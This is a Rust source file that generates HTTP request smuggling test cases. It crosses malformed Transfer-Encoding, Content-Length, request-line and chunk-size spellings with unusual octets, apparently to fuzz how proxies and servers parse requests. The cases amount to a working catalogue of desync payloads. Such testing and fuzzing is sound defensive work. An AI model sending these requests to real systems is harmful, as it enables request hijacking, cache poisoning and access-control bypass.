//! Cases made from tables: a place in a request, times what could stand there.
//!
//! The places and most of the fixed spellings are those of defparam/smuggler (`configs/{default,exhaustive,doubles}.py`)
//! and of PortSwigger's HTTP Request Smuggler (`DesyncBox`, `ChunkSizeScan`, `ChunkExtensionScan`). `$` is the place.

/// Where an octet is put around a coding. A proxy that sees the field, and a server that does not, part ways.
const AROUND_A_CODING: [&str; 16] = [
    "Transfer-Encoding:$chunked",
    "Transfer-Encoding$: chunked",
    "$Transfer-Encoding: chunked",
    "Transfer-Encoding: chunked$",
    "Transfer-Encoding: $chunked",
    "X: X$Transfer-Encoding: chunked",
    "Transfer-Encoding: chunked$X: X",
    "X: X\\r$Transfer-Encoding: chunked",
    "X: X$\\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\\r$X: X",
    "Transfer-Encoding: chunked$\\nX: X",
    "Transfer$Encoding: chunked",
    "Transfer-Encoding: chun$ked",
    "$Transfer-Encoding$: chunked",
    "$Transfer-Encoding: chunked$",
    "Transfer-Encoding$:$chunked$",
];

/// Where an octet is put around a length.
const AROUND_A_LENGTH: [&str; 9] = [
    "Content-Length:${length}",
    "Content-Length$: {length}",
    "$Content-Length: {length}",
    "Content-Length: {length}$",
    "Content$Length: {length}",
    "X: X$Content-Length: {length}",
    "Content-Length: {length}$X: X",
    "Content-Length: 0$Content-Length: {length}",
    "Content-Length: {length}${length}",
];

/// Where an octet is put into the rest of a head.
const INTO_A_HEAD: [&str; 14] = [
    "$GET {front} HTTP/1.1\\r\\nHost: front.example",
    "GET$ {front} HTTP/1.1\\r\\nHost: front.example",
    "GET$/x{front} HTTP/1.1\\r\\nHost: front.example",
    "GET {front}$ HTTP/1.1\\r\\nHost: front.example",
    "GET {front}$HTTP/1.1\\r\\nHost: front.example",
    "GET {front} HTTP$1.1\\r\\nHost: front.example",
    "GET {front} HTTP/1.1$\\r\\nHost: front.example",
    "GET {front} HTTP/1.1\\r\\nHost$: front.example",
    "GET {front} HTTP/1.1\\r\\n$Host: front.example",
    "GET {front} HTTP/1.1\\r\\nHost:$front.example",
    "GET {front} HTTP/1.1\\r\\nHost: front.example$",
    "GET {front} HTTP/1.1\\r\\nHost: front.example$blocked.example",
    "GET {front} HTTP/1.1\\r\\nHost: front.example\\r\\nX$Host: blocked.example",
    "GET {front} HTTP/1.1\\r\\nHost: front.example\\r\\nX: y$Host: blocked.example",
];

/// Spellings of a coding that no single octet makes.
const CODINGS: [&str; 40] = [
    "Transfer Encoding: chunked",
    "Transfer_Encoding: chunked",
    "Transfer Encoding:chunked",
    "Transfer-Encoding: chunked, cow",
    "Transfer-Encoding: cow, chunked",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: chunkedchunked",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: identity, chunked, identity",
    "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: chunked,",
    "Transfer-Encoding: , chunked ,",
    "Transfer-Encoding: identity",
    "Transfer-Encoding: identity\\r\\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity",
    "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: chunked",
    "Transfer-Encoding: cow\\r\\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\\r\\nTransfer-encoding: cow",
    "Transfer-Encoding:\\r\\n chunked",
    "Transfer-Encoding:\\n chunked",
    "Transfer-Encoding: \\r\\n\\tchunked",
    "Transfer-Encoding\\r\\n : chunked",
    "Transfer-\\r\\nEncoding: chunked",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: 'chunked'",
    "Transfer-Encoding: chunk",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: cow chunked bar",
    "TrAnSFer-EnCODinG: cHuNkeD",
    "TRANSFER-ENCODING: CHUNKED",
    "Content-Encoding: chunked",
    "Transfer-%45ncoding: chunked",
    "Transfer\\\\Encoding: chunked",
    "Transfer-Encoding x: chunked",
    "Transf\\x82r-Encoding: chunked",
    "Transfer-Encoding: ch\\x96nked",
    "Foo: bar\\r\\n Transfer-Encoding: chunked",
    "Connection: Transfer-Encoding\\r\\nTransfer-Encoding: chunked",
];

/// Texts where a length should be.
const LENGTHS: [&str; 22] = [
    "",
    "+{length}",
    "-{length}",
    "0x{size}",
    "0{length}",
    "{0*30}{length}",
    "{length}.0",
    "{length}e0",
    "{length} ",
    "{length},{length}",
    "{length}, 0",
    "0, {length}",
    "{length} {length}",
    "\"{length}\"",
    "1_0",
    "{length};a",
    "{length}\\x00",
    "9223372036854775808",
    "18446744073709551615",
    "18446744073709551616",
    "{9*40}",
    "\\xd9\\xa5",
];

/// Texts where the size of a chunk of five octets should be.
const SIZES: [&str; 26] = [
    "5",
    "05",
    "{0*15}5",
    "{0*16}5",
    "0x5",
    "+5",
    "-5",
    "5_",
    "0_5",
    "5 ",
    "5\\t",
    " 5",
    "\\t5",
    "5;",
    "5;a",
    "5;a=b",
    "5;a=\"b\"",
    "5 ;a",
    "5 a",
    "5;a\\x00",
    "5;a\\nX",
    "5;a\\rX",
    "",
    ";a",
    "10000000000000005",
    "\\x00",
];

/// What could end a line.
const LINE_ENDS: [&str; 9] = ["\\r\\n", "\\n", "\\r", "\\rX", "\\r\\r\\n", "\\n\\r", "\\r\\n\\n", "XX", ""];

/// Octets worth a try anywhere: those that somebody has taken for a blank, a separator or nothing at all. With
/// `INTERDICT_SOAK=1` all that are no letters or digits.
fn octets() -> Vec<u8> {
    if std::env::var_os("INTERDICT_SOAK").is_some() {
        return (0..=0xffu8).filter(|octet| !octet.is_ascii_alphanumeric()).collect();
    }
    vec![
        0x00, 0x01, 0x04, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x22, 0x2c, 0x2d, 0x3a, 0x3b, 0x5f,
        0x7f, 0x85, 0xa0, 0xff,
    ]
}

/// Every generated case: what it is, and its octets in our notation.
pub fn all() -> Vec<(String, String)> {
    let mut all = Vec::new();
    for template in AROUND_A_CODING {
        octets().into_iter().for_each(|octet| coding(&put(template, octet), &mut all));
    }
    CODINGS.iter().for_each(|field| coding(field, &mut all));
    for template in AROUND_A_LENGTH {
        octets().into_iter().for_each(|octet| length(&put(template, octet), &mut all));
    }
    LENGTHS.iter().for_each(|text| length(&format!("Content-Length: {text}"), &mut all));
    for template in INTO_A_HEAD {
        for octet in octets() {
            let head = put(template, octet);
            all.push((format!("head with {octet:#04x}"), format!("{head}\\r\\n\\r\\n{{smuggled}}")));
        }
    }
    chunks(&mut all);
    all
}

fn put(template: &str, octet: u8) -> String {
    template.replace('$', &format!("\\x{octet:02x}"))
}

/// A field that may or may not be a coding, with a length beside it that ends elsewhere: both ways round, and alone.
fn coding(field: &str, all: &mut Vec<(String, String)>) {
    let start = format!("POST {{front}} HTTP/1.1\\r\\nHost: front.example\\r\\n{field}\\r\\n");
    let title = format!("coding `{field}`");
    all.push((
        format!("{title}, the length goes on"),
        format!("{start}Content-Length: {{length}}\\r\\n\\r\\n«0\\r\\n\\r\\n{{smuggled}}»"),
    ));
    all.push((
        format!("{title}, the chunks go on"),
        format!("{start}Content-Length: 4\\r\\n\\r\\n{{size}}\\r\\n«{{smuggled}}»\\r\\n0\\r\\n\\r\\n"),
    ));
    all.push((title, format!("{start}\\r\\n0\\r\\n\\r\\n{{smuggled}}")));
}

/// A field that may or may not be a length.
fn length(field: &str, all: &mut Vec<(String, String)>) {
    let start = format!("POST {{front}} HTTP/1.1\\r\\nHost: front.example\\r\\n{field}\\r\\n");
    all.push((format!("length `{field}`"), format!("{start}\\r\\n«{{smuggled}}»{{smuggled}}")));
}

fn chunks(all: &mut Vec<(String, String)>) {
    let start = "POST {front} HTTP/1.1\\r\\nHost: front.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n";
    for end in LINE_ENDS {
        for size in SIZES {
            all.push((
                format!("size `{size}` before `{end}`"),
                format!("{start}{size}{end}hello\\r\\n0\\r\\n\\r\\n{{smuggled}}"),
            ));
        }
        let others = [
            ("after the data", format!("5\\r\\nhello{end}0\\r\\n\\r\\n")),
            ("after the last size", format!("5\\r\\nhello\\r\\n0{end}\\r\\n")),
            ("at the end", format!("5\\r\\nhello\\r\\n0\\r\\n{end}")),
            ("in a trailer", format!("0\\r\\nA: b{end}Content-Length: 9\\r\\n\\r\\n")),
            ("around the data", format!("5{end}hello{end}0{end}{end}")),
            (
                "in an extension that hides a chunk",
                format!("5;a{end}hello\\r\\n{{size}}\\r\\n«{{smuggled}}»\\r\\n0\\r\\n\\r\\n"),
            ),
        ];
        for (what, body) in others {
            all.push((format!("`{end}` {what}"), format!("{start}{body}{{smuggled}}")));
        }
    }
}
